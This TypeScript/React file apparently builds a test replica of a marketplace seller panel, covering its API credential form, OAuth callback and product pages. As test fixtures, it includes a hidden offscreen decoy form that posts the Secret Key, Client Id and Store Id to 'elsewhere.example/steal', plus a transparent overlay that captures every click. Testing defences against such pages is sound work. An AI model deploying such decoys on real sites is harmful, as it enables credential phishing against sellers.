import { type ReactNode, useEffect, useRef, useState } from 'react';
import { createRoot } from 'react-dom/client';
import { type ApiView, CLOSED_PRODUCT_IMAGES, imageUrl, type Lang, PRODUCT_IMAGES, type ProductImage, SV_STORES, SV_TEXT, TRAP_ORIGINALS } from '../data';
import { config, Late, Link, usePath } from '../spa';

// Replica of app.shopiverse.tech (see shared/reference/shopiverse/*.png): stores list, a store's page with tabs,
// the "Api Tanım" form (React controlled inputs, or a plain-DOM variant that keeps its own state like Vue's
// v-model), the Joom callback, the product list with thumbnails and the product form with dimensions.
// The "server" is the test process (routes.ts answers /__api/…): saving posts there and reloads, as the guide says.

const lang = (location.pathname.split('/')[1] === 'en' ? 'en' : 'tr') as Lang;
const T = SV_TEXT[lang];
const base = `/${lang}`;
/** A price as the panel's language writes it (Intl): "₺1.729,90" in Turkish, "₺1,729.90" in English ("1729,9 TRY" was no
 * seller's format: seller judge, issue 17 point 6). */
const price = (amount: number) =>
  new Intl.NumberFormat(lang === 'en' ? 'en-US' : 'tr-TR', { style: 'currency', currency: 'TRY', currencyDisplay: 'narrowSymbol' }).format(amount);

interface ApiValues {
  secret: string;
  clientId: string;
  storeId: string;
  status: boolean;
  asShown: boolean;
}
const EMPTY: ApiValues = { secret: '', clientId: '', storeId: '', status: false, asShown: false };
const load = async (code: string): Promise<ApiValues | undefined> => {
  const response = await fetch(`/__api/store/${code}`);
  return response.status === 200 ? ((await response.json()) as ApiValues) : undefined;
};
const save = async (code: string, values: ApiValues) => {
  window.__replicaSubmitted = { ...values };
  await fetch(`/__api/store/${code}`, { method: 'POST', body: JSON.stringify(values), headers: { 'content-type': 'application/json' } });
  sessionStorage.setItem('sv-saved-flash', '1');
  location.reload();
};

/** Loads the store's saved definition from the server, then shows the form with it. */
function ApiTab({ code }: { code: string }) {
  const [stored, setStored] = useState<ApiValues | undefined | null>(null);
  useEffect(() => {
    void load(code).then(setStored);
  }, [code]);
  if (stored === null) return <div>...</div>;
  const framework = new URLSearchParams(location.search).get('framework') ?? config().framework;
  return framework === 'plain' ? <PlainApiForm code={code} stored={stored} /> : <ApiForm code={code} stored={stored} />;
}

function Shell() {
  const path = usePath();
  return (
    <div>
      <nav className="top">
        <Link to={`${base}/`}>{T.home}</Link> ·{' '}
        <span className="menu">
          {T.productsMenu} › <Link to={`${base}/products/new`}>{T.newProduct}</Link> | <Link to={`${base}/products`}>{T.products}</Link>
        </span>{' '}
        · <Link to={`${base}/settings/store`}>{T.settings}</Link>
      </nav>
      <main>
        <Page key={path} path={location.pathname} />
      </main>
    </div>
  );
}

function Page({ path }: { path: string }) {
  const store = SV_STORES.find((s) => path === `${base}/settings/store/${s.code}`);
  const elsewhere = apiRoute();
  let page = <p>{T.home}</p>;
  if (elsewhere) page = <ApiElsewhere route={elsewhere} />;
  else if (path === `${base}/settings/store` || path === `${base}/settings/store/`) page = <Stores />;
  else if (path === `${base}/settings/store/joomcallbackcode`) page = <Callback />;
  else if (store) page = <StorePage code={store.code} marketplace={store.marketplace} />;
  else if (path === `${base}/products`) page = <Products />;
  else if (path === `${base}/products/new`) page = <ProductForm />;
  return <Late loading="...">{page}</Late>;
}

/**
 * The form at other addresses than /xx/settings/store/NNNNN (the real one is unknown, PANELS.md): SV_API_ROUTES
 * lists the shapes, `view` says how the form is shown there (a tab, a modal or a drawer), and `cover` lays a
 * transparent layer over the page (a consent banner's or a hostile page's), which takes every click.
 */
interface ApiRouteSeen {
  /** The store, when the address names one; a list route opens it from a click. */
  code?: string;
  view: ApiView;
  cover: boolean;
}

function apiRoute(): ApiRouteSeen | undefined {
  const query = new URLSearchParams(location.search);
  const hash = location.hash.replace(/^#/, '');
  const view = (['modal', 'drawer'].includes(query.get('view') ?? '') ? query.get('view') : 'tab') as ApiView;
  const cover = query.has('cover');
  const shapes: [RegExp, string][] = [
    [/^\/[a-z]{2}\/magazalar\/(\d{5})\/api\/?$/, location.pathname],
    [/^\/[a-z]{2}\/stores\/(\d{5})\/?$/, query.get('tab') === 'api' ? location.pathname : ''],
    [/^\/stores\/(\d{5})\/api$/, hash],
  ];
  for (const [pattern, text] of shapes) {
    const code = pattern.exec(text)?.[1];
    if (code) return { code, view, cover };
  }
  if (/^\/[a-z]{2}\/stores\/?$/.test(location.pathname) && !hash) return { view: view === 'tab' ? 'modal' : view, cover };
  return undefined;
}

function ApiElsewhere({ route }: { route: ApiRouteSeen }) {
  const [code, setCode] = useState(route.code);
  const store = SV_STORES.find((s) => s.code === code);
  const body = store && <ApiBody code={store.code} marketplace={store.marketplace} />;
  const overlay = (content: ReactNode) =>
    route.view === 'modal' ? (
      <>
        <div className="backdrop" style={{ position: 'fixed', inset: 0, background: 'rgba(0,0,0,.4)', zIndex: 10 }} />
        <div
          role="dialog"
          aria-modal="true"
          className="modal"
          style={{
            position: 'fixed',
            top: 24,
            left: '50%',
            transform: 'translateX(-50%)',
            width: 560,
            maxHeight: 'calc(100% - 48px)',
            overflow: 'auto',
            background: '#fff',
            padding: 16,
            zIndex: 11,
          }}
        >
          <h2>{T.apiTab}</h2>
          {content}
        </div>
      </>
    ) : (
      <aside
        className="drawer"
        style={{
          position: 'fixed',
          top: 0,
          right: 0,
          bottom: 0,
          width: 520,
          overflow: 'auto',
          background: '#fff',
          boxShadow: '-4px 0 12px rgba(0,0,0,.2)',
          padding: 16,
          zIndex: 11,
        }}
      >
        <h2>{T.apiTab}</h2>
        {content}
      </aside>
    );
  return (
    <section>
      <Breadcrumb last={store ? T.store : T.stores} />
      {route.code === undefined && (
        <div className="cards">
          {SV_STORES.map((s) => (
            <button type="button" key={s.code} className="card" onClick={() => setCode(s.code)}>
              {s.code} {s.name}
            </button>
          ))}
        </div>
      )}
      {store && route.view === 'tab' && (
        <div>
          <div className="tabs" role="tablist">
            <button type="button" role="tab" aria-selected={false}>
              {T.store}
            </button>
            <button type="button" role="tab" aria-selected={true}>
              {T.apiTab}
            </button>
          </div>
          {body}
        </div>
      )}
      {store && route.view !== 'tab' && overlay(body)}
      {route.cover && <CoverLayer />}
    </section>
  );
}

/** A transparent layer over the whole page (a consent banner's, or a hostile page's): it takes every click. */
function CoverLayer() {
  return <div data-cover="" style={{ position: 'fixed', inset: 0, background: 'transparent', zIndex: 1000 }} />;
}

/** The Api Tanım tab's content: the banner naming the marketplace and the store's code, then the form. */
function ApiBody({ code, marketplace }: { code: string; marketplace: string }) {
  return (
    <Late loading="..." extra={100}>
      {config().decoy === 'offscreen' && <OffscreenDecoy code={code} />}
      <div className="banner">{T.banner.replaceAll('{m}', marketplace).replace('{code}', code)}</div>
      {sessionStorage.getItem('sv-saved-flash') && <div className="flash">{T.saved}</div>}
      <ApiTab code={code} />
      {config().decoy === 'twin' && <ApiTab code={code} />}
    </Late>
  );
}

function Breadcrumb({ last }: { last: string }) {
  return (
    <div className="breadcrumb">
      {T.home} / {T.settings} / {T.stores} / <b>{last}</b>
    </div>
  );
}

function Stores() {
  return (
    <section>
      <Breadcrumb last={T.stores} />
      <div className="cards">
        {SV_STORES.map((store) => (
          <Link key={store.code} to={`${base}/settings/store/${store.code}`} className="card">
            <span>{store.code}</span> <b>{store.name}</b> <span className="badge">{T.active}</span>
          </Link>
        ))}
      </div>
    </section>
  );
}

function StorePage({ code, marketplace }: { code: string; marketplace: string }) {
  const [tab, setTab] = useState<'store' | 'api' | 'plan'>(sessionStorage.getItem('sv-tab') === 'api' ? 'api' : 'store');
  const choose = (next: typeof tab) => {
    sessionStorage.setItem('sv-tab', next);
    setTab(next);
  };
  return (
    <section>
      <Breadcrumb last={T.store} />
      <div className="tabs" role="tablist">
        <button type="button" role="tab" aria-selected={tab === 'store'} onClick={() => choose('store')}>
          {T.store}
        </button>
        <button type="button" role="tab" aria-selected={tab === 'api'} onClick={() => choose('api')}>
          {T.apiTab}
        </button>
        <button type="button" role="tab" aria-selected={tab === 'plan'} onClick={() => choose('plan')}>
          {T.planTab}
        </button>
      </div>
      {tab === 'api' && <ApiBody code={code} marketplace={marketplace} />}
      {tab === 'api' && new URLSearchParams(location.search).has('cover') && <CoverLayer />}
      {tab === 'store' && <p>{marketplace}</p>}
    </section>
  );
}

/** An attacker's copy of the form, same labels and banner, out of sight and submitting elsewhere, placed first. */
function OffscreenDecoy({ code }: { code: string }) {
  return (
    <div style={{ position: 'absolute', left: -10000, top: 0 }} data-decoy="offscreen">
      <div className="banner">{T.banner.replaceAll('{m}', 'Joom').replace('{code}', code)}</div>
      <form action="https://elsewhere.example/steal">
        <div className="check">
          <input type="checkbox" />
          <span>{T.status}</span>
        </div>
        {['Secret Key', 'Client Id', 'Store Id'].map((label) => (
          <div className="form-group" key={label}>
            <div className="form-label">{label}</div>
            <input className="form-control" placeholder={label} />
          </div>
        ))}
        <button type="submit" className="btn-orange">
          {T.save}
        </button>
      </form>
    </div>
  );
}

function Buttons({ saved, onAuthorize }: { saved: boolean; onAuthorize: () => void }) {
  return (
    <div className="buttons">
      <button type="submit" className="btn-orange">
        {T.save}
      </button>
      <button type="button" className="btn-red">
        {T.remove}
      </button>
      {saved && (
        <button type="button" className="btn-cyan" onClick={onAuthorize}>
          {T.authorize}
        </button>
      )}
    </div>
  );
}

function authorize(values: ApiValues) {
  const redirect = `https://app.shopiverse.tech${base}/settings/store/joomcallbackcode`;
  location.href = `https://api-merchant.joom.com/api/v2/oauth/authorize?client_id=${encodeURIComponent(values.clientId)}&redirect_uri=${encodeURIComponent(redirect)}`;
}

/** React, controlled: the DOM value alone does not reach `values`. Labels are divs, not tied to the inputs. */
function ApiForm({ code, stored }: { code: string; stored?: ApiValues }) {
  const [values, setValues] = useState<ApiValues>(stored ?? EMPTY);
  const text = (key: 'secret' | 'clientId' | 'storeId', label: string) => (
    <div className="form-group">
      <div className="form-label">{label}</div>
      <input className="form-control" placeholder={label} value={values[key]} onChange={(event) => setValues({ ...values, [key]: event.target.value })} />
    </div>
  );
  return (
    <form
      onSubmit={(event) => {
        event.preventDefault();
        void save(code, values);
      }}
    >
      <div className="check">
        <input type="checkbox" checked={values.status} onChange={(event) => setValues({ ...values, status: event.target.checked })} />
        <span>{T.status}</span>
      </div>
      {text('secret', 'Secret Key')}
      {text('clientId', 'Client Id')}
      {text('storeId', 'Store Id')}
      <div className="check">
        <input type="checkbox" checked={values.asShown} onChange={(event) => setValues({ ...values, asShown: event.target.checked })} />
        <span>{T.asShown}</span>
      </div>
      <Buttons saved={stored !== undefined} onAuthorize={() => authorize(values)} />
    </form>
  );
}

/** Plain DOM with its own state, updated only by `input`/`change` events (as Vue's v-model or Angular forms are). */
function PlainApiForm({ code, stored }: { code: string; stored?: ApiValues }) {
  const host = useRef<HTMLDivElement>(null);
  useEffect(() => {
    const root = host.current;
    if (!root) return;
    const state: ApiValues = { ...(stored ?? EMPTY) };
    const form = document.createElement('form');
    const checkbox = (key: 'status' | 'asShown', label: string) => {
      const row = document.createElement('div');
      const input = document.createElement('input');
      input.type = 'checkbox';
      input.checked = state[key];
      input.addEventListener('change', () => {
        state[key] = input.checked;
      });
      const span = document.createElement('span');
      span.textContent = label;
      row.append(input, span);
      form.append(row);
    };
    const text = (key: 'secret' | 'clientId' | 'storeId', label: string) => {
      const row = document.createElement('div');
      const caption = document.createElement('p');
      caption.textContent = label;
      const input = document.createElement('input');
      input.value = state[key];
      input.addEventListener('input', () => {
        state[key] = input.value;
      });
      row.append(caption, input);
      form.append(row);
    };
    checkbox('status', T.status);
    text('secret', 'Secret Key');
    text('clientId', 'Client Id');
    text('storeId', 'Store Id');
    checkbox('asShown', T.asShown);
    const saveButton = document.createElement('button');
    saveButton.type = 'submit';
    saveButton.textContent = T.save;
    form.append(saveButton);
    if (stored) {
      const auth = document.createElement('button');
      auth.type = 'button';
      auth.textContent = T.authorize;
      auth.addEventListener('click', () => authorize(state));
      form.append(auth);
    }
    form.addEventListener('submit', (event) => {
      event.preventDefault();
      void save(code, { ...state });
    });
    root.append(form);
    return () => form.remove();
  }, [code, stored]);
  return <div ref={host} />;
}

function Callback() {
  const params = new URLSearchParams(location.search);
  return <p>{params.get('code') ? T.callbackOk : `${T.callbackError} ${params.get('error') ?? ''}`}</p>;
}

/** A product list row's picture: a plain <img>, a srcset naming a larger original, or a <picture> with a typed source. */
function ProductPicture({ image, original }: { image: ProductImage; original?: string }) {
  const src = imageUrl(image);
  if (image.sourceType) {
    return (
      <picture>
        <source type={image.sourceType} srcset={src} />
        <img src={src.replace(/\.\w+$/, '.jpg')} alt="" width={48} height={48} />
      </picture>
    );
  }
  return <img src={src} srcset={original ? `${src} 1x, ${original} 2x` : undefined} alt="" width={48} height={48} />;
}

function Products() {
  const rows: { image: ProductImage; original?: string; src?: string }[] = PRODUCT_IMAGES.map((image) => ({ image }));
  // Test-only rows, by the query string: ?show=closed,traps,long
  const show = new URLSearchParams(location.search).get('show')?.split(',') ?? [];
  const landscape = PRODUCT_IMAGES.find((image) => image.file === 'landscape.jpg') as ProductImage;
  if (show.includes('closed')) rows.push(...CLOSED_PRODUCT_IMAGES.map((image) => ({ image })));
  if (show.includes('traps')) {
    rows.push(...TRAP_ORIGINALS.map((original, index) => ({ image: { ...landscape, name: `Tuzak ${index}`, file: `landscape.jpg?trap=${index}` }, original })));
  }
  // An address longer than any message may carry: skipped, never the reason the other rows go unchecked.
  if (show.includes('long')) rows.push({ image: { ...landscape, name: 'Uzun adres', file: `square.jpg?pad=${'a'.repeat(5000)}` } });
  return (
    <section>
      <h1>{T.products}</h1>
      <img src="/static/shopiverse-logo.svg" alt="ShopiVerse logo" width={120} height={32} />
      <table>
        <thead>
          <tr>
            <th />
            <th>{T.productName}</th>
            <th>{T.code}</th>
            <th>{T.price}</th>
          </tr>
        </thead>
        <tbody>
          {rows.map(({ image, original }, index) => (
            <tr key={image.name}>
              <td>
                <ProductPicture image={image} original={original} />
              </td>
              <td>{image.name}</td>
              <td>
                {T.stockCode}: SKU-{index}
              </td>
              <td>{price(1729.9)}</td>
            </tr>
          ))}
        </tbody>
      </table>
    </section>
  );
}

/** The fields of the product form, and (?units=1) a variant in grams and millimetres, from labels and selectors. */
const FORM_VARIANTS: Record<'plain' | 'units', { key: string; label: string; value: string; units?: string[] }[]> = {
  plain: [
    { key: 'width', label: T.width, value: '160' },
    { key: 'length', label: T.length, value: '230' },
    { key: 'height', label: T.height, value: '' },
    { key: 'weight', label: T.weight, value: '0' },
    { key: 'pkgWidth', label: T.pkgWidth, value: '40' },
    { key: 'pkgLength', label: T.pkgLength, value: '40' },
    { key: 'pkgHeight', label: T.pkgHeight, value: '400' },
    { key: 'pkgWeight', label: T.pkgWeight, value: '12' },
  ],
  units: [
    { key: 'width', label: 'En (mm)', value: '1600' },
    { key: 'length', label: 'Boy (cm)', value: '230' },
    { key: 'height', label: 'Yükseklik (cm)', value: '5' },
    { key: 'weight', label: 'Ağırlık (gr)', value: '1500' },
    { key: 'pkgWidth', label: 'Paket En', value: '40' },
    { key: 'pkgLength', label: 'Paket Boy', value: '4000', units: ['cm', 'mm'] },
    { key: 'pkgHeight', label: 'Paket Yükseklik (cm)', value: '40' },
    { key: 'pkgWeight', label: 'Paket Ağırlık', value: '1500', units: ['kg', 'gr'] },
  ],
};

function ProductForm() {
  const variant = FORM_VARIANTS[new URLSearchParams(location.search).get('units') ? 'units' : 'plain'];
  const [values, setValues] = useState<Record<string, string>>(Object.fromEntries(variant.map(({ key, value }) => [key, value])));
  const field = ({ key, label, units }: (typeof variant)[number]) => (
    <div className="form-group" key={key}>
      <div className="form-label">{label}</div>
      <input className="form-control" value={values[key] ?? ''} onChange={(event) => setValues({ ...values, [key]: event.target.value })} />
      {units && (
        <select defaultValue={units[units.length - 1]} aria-label="Birim">
          {units.map((unit) => (
            <option key={unit}>{unit}</option>
          ))}
        </select>
      )}
    </div>
  );
  return (
    <form>
      <h1>{T.newProduct}</h1>
      <div className="form-group">
        <div className="form-label">{T.productName}</div>
        <input defaultValue="Kilim" />
      </div>
      {variant.map(field)}
    </form>
  );
}

createRoot(document.getElementById('root') as HTMLElement).render(<Shell />);
